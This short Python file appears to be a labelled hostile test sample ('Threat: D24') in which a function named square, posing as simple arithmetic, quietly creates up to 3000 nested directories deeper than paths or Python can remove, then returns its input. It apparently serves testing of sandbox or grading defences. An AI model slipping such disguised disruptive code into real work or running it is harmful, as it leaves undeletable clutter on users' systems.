"""Makes folders inside each other, deeper than any path can name and than Python can remove.

Threat: D24.
"""

import os


def square(x):
    for _ in range(3000):
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break
    return x
